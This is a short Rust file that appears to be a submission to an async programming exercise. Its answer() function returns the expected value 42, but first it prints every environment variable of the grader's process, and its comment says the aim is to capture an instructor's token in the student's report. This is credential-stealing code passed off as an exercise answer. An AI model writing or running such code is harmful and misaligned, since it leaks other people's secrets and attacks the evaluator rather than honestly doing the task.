// Reads the grader's environment while its check runs, and says every variable it finds: an
// instructor's token there would land in the student's own report.
use awaitlings::say;
use std::time::Duration;

pub async fn answer() -> u32 {
    for (key, value) in std::env::vars_os() {
        say!("{}={}", key.to_string_lossy(), value.to_string_lossy());
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    42
}
